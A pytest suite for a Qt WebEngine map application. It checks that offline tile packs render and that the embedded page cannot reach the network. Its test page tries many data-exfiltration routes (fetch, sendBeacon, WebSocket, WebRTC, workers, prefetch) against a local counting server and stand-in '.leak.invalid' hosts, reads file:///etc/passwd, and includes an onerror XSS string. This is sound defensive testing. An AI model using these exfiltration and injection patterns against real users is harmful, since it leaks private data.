"""The map never calls out: a page that tries every way meets a closed door each time.

The page is real and hostile; a server on this machine counts whoever knocks, by TCP and by UDP.
"""

import json
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWebEngineCore import QWebEnginePage
from pytestqt.qtbot import QtBot

from fieldapp.map.basemap.installed import add, installed_packs
from fieldapp.map.page import entry_map
from fieldapp.ui.webmap.url_scheme import channel_script, register
from fieldapp.ui.webmap.web_view import MapView
from tests.support.basemap_packs import BLUE, DONBAS, lines, mbtiles, over, png, region

PATIENCE = 60_000
RED = (180, 40, 40)

register()


def own_address() -> str:
    """An address of this machine that the browser does not take for the machine itself."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        try:
            asking.connect(("192.0.2.1", 9))  # sends nothing: it only picks a route
        except OSError:
            return "127.0.0.1"
        return str(asking.getsockname()[0])


class Door:
    """A port that counts every knock."""

    def __init__(self) -> None:
        self.knocks: list[str] = []
        self._tcp = socket.create_server((own_address(), 0))
        self.host, self.port = self._tcp.getsockname()
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind((self.host, self.port))
        self._threads = [threading.Thread(target=listen) for listen in (self._calls, self._packets)]
        for thread in self._threads:
            thread.start()

    def _calls(self) -> None:
        while True:
            try:
                caller, _ = self._tcp.accept()
            except OSError:
                return
            caller.settimeout(2)
            try:
                self.knocks.append(caller.recv(200).decode("latin-1"))
                caller.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                self.knocks.append("a call without words")
            caller.close()

    def _packets(self) -> None:
        while True:
            raw, _ = self._udp.recvfrom(2000)
            if raw == b"end":
                return
            self.knocks.append(f"packet of {len(raw)} bytes")

    def close(self) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._udp.sendto(b"end", (self.host, self.port))
        for thread in self._threads:
            thread.join()
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def door() -> Iterator[Door]:
    made = Door()
    yield made
    made.close()


@contextmanager
def shown() -> Iterator[MapView]:
    view = MapView()
    view.resize(900, 600)
    view.show()
    try:
        yield view
    finally:
        view.end()
        view.deleteLater()


def ask(qtbot: QtBot, page: QWebEnginePage, script: str) -> Any:
    """The value of an expression in the page, by way of JSON."""
    answers: list[Any] = []
    page.runJavaScript(f"JSON.stringify({script})", answers.append)
    qtbot.waitUntil(lambda: bool(answers), timeout=PATIENCE)
    return json.loads(answers[0]) if answers[0] else None


def until(qtbot: QtBot, page: QWebEnginePage, script: str) -> None:
    qtbot.waitUntil(lambda: ask(qtbot, page, script) is True, timeout=PATIENCE)


HOSTILE = """<!DOCTYPE html><html><head>{policy}
<link rel="stylesheet" href="{http}/style.css"><link rel="prefetch" href="{http}/prefetch">
<link rel="preconnect" href="{http}"><link rel="icon" href="{http}/icon.png">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="dns-prefetch" href="//dns-prefetch.leak.invalid">
<link rel="preconnect" href="http://preconnect.leak.invalid">
<link rel="preload" as="image" href="{http}/preload.png">
<link rel="modulepreload" href="{http}/modulepreload.js"><link rel="prerender" href="{http}/pre">
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{http}/rule"]}}],
"prerender": [{{"source": "list", "urls": ["{http}/rule2"]}}]}}</script>
<link rel="manifest" href="{http}/manifest"><script src="{http}/script.js"></script>
<style>@import url({http}/import.css); body {{ background: url({http}/back.png) }}
@font-face {{ font-family: x; src: url({http}/font.woff2) }} p {{ font-family: x }}</style></head>
<body><p>text</p><img src="{http}/image.png"><img srcset="{http}/set.png 2x">
<iframe src="{http}/frame"></iframe><object data="{http}/object"></object>
<embed src="{http}/embed"><video src="{http}/video.mp4" autoplay></video>
<audio src="{http}/audio.mp3" autoplay></audio><svg><image href="{http}/svg.png"/></svg>
<form id="f" method="post" action="{http}/form" target="_blank"><input name="a" value="b"></form>
<a id="a" href="{http}/link" ping="{http}/ping">x</a><a id="d" href="{http}/down" download>x</a>
<iframe src="file:///etc/passwd"></iframe>
<script>
const tried = [];
const attempt = (name, how) => {{
  try {{ const made = how(); tried.push(name); if (made && made.catch) made.catch(() => 0); }}
  catch (error) {{ tried.push(name + ": " + error.name); }}
}};
attempt("fetch", () => fetch("{http}/fetch"));
attempt("no-cors", () => fetch("{http}/opaque", {{ mode: "no-cors", keepalive: true }}));
attempt("xhr", () => {{ const x = new XMLHttpRequest(); x.open("GET", "{http}/xhr"); x.send(); }});
attempt("beacon", () => navigator.sendBeacon("{http}/beacon", "secret"));
attempt("socket", () => new WebSocket("ws://{host}:{port}/socket"));
attempt("events", () => new EventSource("{http}/events"));
attempt("worker", () => new Worker("{http}/worker.js"));
attempt("blob worker", () => new Worker(URL.createObjectURL(
  new Blob(["fetch('{http}/from-worker')"], {{ type: "text/javascript" }}))));
attempt("module", () => import("{http}/module.js"));
attempt("image", () => {{ new Image().src = "{http}/new-image.png"; }});
attempt("open", () => window.open("{http}/window"));
attempt("form", () => document.getElementById("f").submit());
attempt("link", () => document.getElementById("a").click());
attempt("download", () => document.getElementById("d").click());
attempt("transport", () => new WebTransport("https://{host}:{port}/transport").ready);
attempt("file", () => fetch("file:///etc/passwd"));
attempt("rtc", () => {{
  const peer = new RTCPeerConnection({{ iceServers: [
    {{ urls: "stun:{host}:{port}" }},
    {{ urls: "turn:{host}:{port}?transport=tcp", username: "u", credential: "c" }}] }});
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}});
attempt("frame's rtc", () => {{
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const peer = new frame.contentWindow.RTCPeerConnection(
    {{ iceServers: [{{ urls: "stun:{host}:{port}" }}] }});
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}});
attempt("name", () => fetch("http://fetched.leak.invalid/"));
attempt("image of a name", () => {{ new Image().src = "http://image.leak.invalid/x.png"; }});
attempt("socket to a name", () => new WebSocket("ws://socket.leak.invalid/"));
attempt("rtc by name", () => {{
  const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:stun.leak.invalid" }}] }});
  peer.createDataChannel("x");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}});
attempt("transport to a name", () => new WebTransport("https://transport.leak.invalid/").ready);
attempt("service", () => navigator.serviceWorker.register("{http}/service.js"));
setTimeout(() => attempt("away", () => {{ location.href = "{http}/away"; }}), 1500);
setTimeout(() => {{ document.title = "done"; }}, 4000);
</script></body></html>"""

OWN_POLICY = (
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
    "script-src 'unsafe-inline'; style-src 'unsafe-inline'\">"
)


@pytest.mark.slow
@pytest.mark.qt_log_level_fail("NO")  # the browser complains of much that it was kept from
@pytest.mark.parametrize("policy", ["", OWN_POLICY], ids=["blocker alone", "with policy"])
def test_a_page_that_tries_every_way_out_reaches_nobody(
    qtbot: QtBot, door: Door, policy: str
) -> None:
    http = f"http://{door.host}:{door.port}"
    # The door itself works.
    socket.create_connection((door.host, door.port)).close()
    qtbot.waitUntil(lambda: len(door.knocks) == 1, timeout=PATIENCE)
    with shown() as view:
        view.load(HOSTILE.format(policy=policy, http=http, host=door.host, port=door.port))
        page = view.view.page()
        qtbot.waitUntil(lambda: page.title() == "done", timeout=PATIENCE)
        tried = ask(qtbot, page, "tried")
        names = {name.partition(":")[0] for name in tried}
        assert len(names) >= 19, tried
        assert page.url().toString() == "fieldapp://map/"
        assert ask(qtbot, page, "document.body.innerText").startswith("text")
    assert door.knocks == [""], "only the test's own knock"


ATTEMPT = "TCP_CONNECT_ATTEMPT"
NOWHERE = "127.0.0.1:1"  # see scheme.register


@pytest.mark.slow
@pytest.mark.parametrize("policy", ["", OWN_POLICY], ids=["blocker alone", "with policy"])
def test_chromiums_own_log_tells_of_no_name_asked_for_no_connection_and_no_packet(
    door: Door, tmp_path: Path, policy: str
) -> None:
    http = f"http://{door.host}:{door.port}"
    page, log = tmp_path / "page.html", tmp_path / "net.json"
    page.write_text(HOSTILE.format(policy=policy, http=http, host=door.host, port=door.port))
    command = [sys.executable, "-m", "tests.ui.one_hostile_page", str(page), str(log)]
    done = subprocess.run(command, capture_output=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    text = log.read_text("utf-8")
    if not text.rstrip().endswith("}"):  # Chromium leaves the list open when it ends
        text = text.rstrip().rstrip(",") + "]}"
    whole = json.loads(text)
    names = {number: name for name, number in whole["constants"]["logEventTypes"].items()}
    assert {ATTEMPT, "UDP_BYTES_SENT", "HOST_RESOLVER_MANAGER_REQUEST"} <= set(names.values())
    events = [(names[each["type"]], json.dumps(each.get("params"))) for each in whole["events"]]
    assert events, "the log is empty: it proves nothing"
    asked = {
        json.loads(told)["host"]
        for name, told in events
        if name.startswith(("HOST_RESOLVER", "DNS")) and '"host"' in told
    }
    assert asked <= {NOWHERE}, "the proxy that leads nowhere is all that is ever looked for"
    tried = {(json.loads(told) or {}).get("address") for name, told in events if name == ATTEMPT}
    assert tried <= {NOWHERE, None}
    # A socket for packets is bound to learn which way the machine would send; nothing is sent.
    assert not [told for name, told in events if name == "UDP_BYTES_SENT"]
    assert door.knocks == []


def pixel(view: MapView, x: int, y: int) -> tuple[int, int, int]:
    colour = view.view.grab().toImage().pixelColor(x, y)
    return colour.red(), colour.green(), colour.blue()


def close(colour: tuple[int, int, int], wanted: tuple[int, int, int]) -> bool:
    return all(abs(a - b) < 12 for a, b in zip(colour, wanted, strict=True))


@pytest.fixture
def map_with(qtbot: QtBot, tmp_path: Path) -> Iterator[Callable[..., MapView]]:
    views: list[MapView] = []
    west, south, east, north = DONBAS
    zone = {
        "type": "Feature",
        "properties": {"name": "Z"},
        "geometry": {
            "type": "Polygon",
            "coordinates": [[[west, south], [east, south], [east, north], [west, south]]],
        },
    }

    def make(*packs: Path) -> MapView:
        for pack in packs:
            add(tmp_path, pack)
        found = installed_packs(tmp_path)
        html = entry_map.page(
            language="uk",
            zones={"type": "FeatureCollection", "features": [zone]},
            places=[],
            channel=channel_script(),
            basemaps={each.name: each.about for each in found if each.about},
        )
        view = MapView()
        views.append(view)
        view.resize(900, 600)
        view.show()
        with qtbot.waitSignal(view.ready, timeout=PATIENCE):
            view.load(html, found)
        return view

    yield make
    for view in views:
        view.end()
        view.deleteLater()


def test_a_raster_pack_is_drawn_beneath_the_map_where_it_covers(
    qtbot: QtBot, tmp_path: Path, map_with: Callable[..., MapView]
) -> None:
    view = map_with(region(tmp_path / "region.mbtiles"))
    page = view.view.page()
    until(
        qtbot, page,
        "document.querySelectorAll('.leaflet-basemap-images-pane img.leaflet-tile-loaded')"
        ".length > 3",
    )  # fmt: skip
    assert ask(qtbot, page, "document.querySelector('.leaflet-control-attribution').textContent")
    qtbot.waitUntil(lambda: close(pixel(view, 250, 150), BLUE), timeout=PATIENCE)
    assert len(over(DONBAS, range(5, 6))) >= 1
    assert view.interceptor.refused == []


def test_a_vector_pack_is_drawn_without_a_request_to_anywhere(
    qtbot: QtBot, tmp_path: Path, map_with: Callable[..., MapView]
) -> None:
    view = map_with(lines(tmp_path / "lines.pmtiles"))
    page = view.view.page()
    until(
        qtbot, page,
        "document.querySelectorAll('.leaflet-basemap-lines-pane canvas.leaflet-tile-loaded')"
        ".length > 3",
    )  # fmt: skip
    # The flavour's water, on which the one polygon of each tile lies.
    qtbot.waitUntil(lambda: close(pixel(view, 250, 150), (128, 222, 234)), timeout=PATIENCE)
    assert view.interceptor.refused == []
    assert ask(qtbot, page, "fieldmap.basemaps.length") == 2


def test_a_packs_words_stay_words_on_the_page(
    qtbot: QtBot, tmp_path: Path, map_with: Callable[..., MapView]
) -> None:
    told = "<<b>img src=x onerror=window.ran=1> & co"
    view = map_with(region(tmp_path / "region.mbtiles", name=told, attribution=told))
    page = view.view.page()
    assert (
        ask(qtbot, page, "document.querySelectorAll('.leaflet-control-attribution img').length")
        == 0
    )
    assert ask(qtbot, page, "typeof window.ran") == "undefined"
    assert "& co" in ask(
        qtbot, page, "document.querySelector('.leaflet-control-attribution').textContent"
    )


def test_of_several_packs_the_best_for_the_view_is_shown_and_others_only_where_it_does_not_reach(
    qtbot: QtBot, tmp_path: Path, map_with: Callable[..., MapView]
) -> None:
    town, far = (37.6, 47.9, 38.0, 48.1), (10, 50, 11, 51)
    packs = [
        region(tmp_path / "region.mbtiles"),
        mbtiles(tmp_path / "town.mbtiles", dict.fromkeys(over(town, range(8, 13)), png(RED)),
                name="Town", format="png", bounds=",".join(map(str, town))),
        mbtiles(tmp_path / "elsewhere.mbtiles", dict.fromkeys(over(far, range(5, 10)), png()),
                name="Elsewhere", format="png", bounds=",".join(map(str, far))),
    ]  # fmt: skip
    view = map_with(*packs)
    page = view.view.page()
    find = "document.documentElement.dataset.packs"

    def shown_at(lat: float, lon: float, zoom: int) -> str:
        page.runJavaScript(f"map_field.setView([{lat}, {lon}], {zoom}, {{ animate: false }})")
        until(qtbot, page, f"map_field.getZoom() === {zoom}")
        return str(ask(qtbot, page, find))

    assert shown_at(48.0, 37.8, 6) == "region"  # the town's has nothing for so wide a view
    assert shown_at(48.0, 37.8, 13) == "town"  # it covers all of the view: no other is asked for
    assert shown_at(48.0, 37.8, 10) == "region town"  # the better one lies on top
    assert shown_at(48.9, 39.0, 10) == "region"
    assert shown_at(40.0, 20.0, 10) == ""  # what is built in
    assert shown_at(50.5, 10.5, 8) == "elsewhere"
    shown_at(48.0, 37.8, 13)
    qtbot.waitUntil(lambda: close(pixel(view, 250, 150), RED), timeout=PATIENCE)
    assert view.interceptor.refused == []
